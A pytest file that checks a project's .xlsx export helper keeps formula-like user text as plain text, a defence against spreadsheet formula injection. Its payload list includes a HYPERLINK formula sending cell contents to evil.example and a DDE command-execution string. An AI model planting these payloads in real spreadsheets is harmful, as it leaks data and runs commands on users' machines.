"""Safe exports: user text that looks like a formula stays text in every .xlsx chiso writes."""
import ast
import io
import re
import zipfile
from pathlib import Path

import pytest

from chiso.common.office import FORMULA_LEADS, append_row, clean_text, new_workbook, put, workbook_bytes

CHISO = Path(__file__).resolve().parents[2] / "chiso"

# one string per dangerous lead, and the classic payloads
HOSTILE = [
    '=HYPERLINK("http://evil.example/?"&A1,"Bấm vào đây")',
    "+1+1",
    "-2+3",
    "@SUM(1+1)*cmd|' /C calc'!A0",
    "\t=1+1",
    "\r=1+1",
    "\n=1+1",
    "=1+1",
    "#N/A",
]


def sheet_xml(content: bytes) -> str:
    with zipfile.ZipFile(io.BytesIO(content)) as z:
        return "".join(z.read(n).decode("utf-8") for n in z.namelist() if n.startswith("xl/worksheets/"))


def assert_no_formula(content: bytes) -> None:
    """No cell of any sheet is a formula (<f>) or an error value (t="e")."""
    xml = sheet_xml(content)
    assert not re.search(r"<f[ >]", xml), "a formula was written"
    assert 't="e"' not in xml


def read_back(content: bytes) -> dict[str, object]:
    """Every non-empty string cell's value → its cell, from the file as Excel would open it."""
    from openpyxl import load_workbook

    book = load_workbook(io.BytesIO(content))
    return {c.value: c for ws in book.worksheets for row in ws.iter_rows() for c in row if c.value is not None}


@pytest.mark.parametrize("text", HOSTILE)
def test_put_keeps_text_that_starts_like_a_formula_as_text(text):
    book = new_workbook()
    put(book.active, 1, 1, text)
    append_row(book.active, ["ok", text, 3])
    content = workbook_bytes(book)
    assert_no_formula(content)
    cells = read_back(content)
    assert cells[text].data_type == "s" and cells[text].quotePrefix
    assert cells["ok"].quotePrefix is False and cells[3].data_type == "n"
    assert [c.coordinate for c in read_back(content).values() if c.value == "ok"] == ["A2"]


def test_every_dangerous_lead_is_covered():
    assert {t[0] for t in HOSTILE} >= set(FORMULA_LEADS)


def test_a_cell_written_around_the_helper_is_still_saved_as_text():
    book = new_workbook()
    book.active["A1"] = "=HYPERLINK(\"http://evil.example\")"
    book.active.append(["=1+1", "#DIV/0!"])
    content = workbook_bytes(book)
    assert_no_formula(content)
    assert read_back(content)["=1+1"].quotePrefix


def test_control_characters_are_dropped_numbers_and_dates_kept():
    import datetime as dt

    assert clean_text("a\x01b\x0bc\x1fd\te\nf\rg") == "abcd\te\nf\rg"
    book = new_workbook()
    append_row(book.active, ["Báo cáo\x0b quý\x07 IV", 1.5, dt.date(2025, 1, 2), None, ""])
    cells = read_back(workbook_bytes(book))
    assert "Báo cáo quý IV" in cells and 1.5 in cells


def _imports_workbook(tree: ast.AST) -> bool:
    for node in ast.walk(tree):
        if isinstance(node, ast.ImportFrom) and node.module == "openpyxl" and any(
                a.name in ("Workbook", "*") for a in node.names):
            return True
        if isinstance(node, ast.Attribute) and node.attr == "Workbook" and getattr(node.value, "id", "") == "openpyxl":
            return True
    return False


def test_every_xlsx_writer_goes_through_the_one_helper():
    """Only chiso/common/office.py makes an openpyxl Workbook; a module using it saves through
    workbook_bytes (which checks every cell) and never calls .save on a workbook itself."""
    offenders = []
    for path in CHISO.rglob("*.py"):
        if path.name == "office.py" and path.parent.name == "common" or "reader" in path.parts:
            continue
        source = path.read_text(encoding="utf-8")
        if _imports_workbook(ast.parse(source)):
            offenders.append(f"{path.relative_to(CHISO)} makes its own Workbook")
        if "new_workbook(" in source and "workbook_bytes(" not in source:
            offenders.append(f"{path.relative_to(CHISO)} saves a workbook without workbook_bytes")
    assert offenders == []
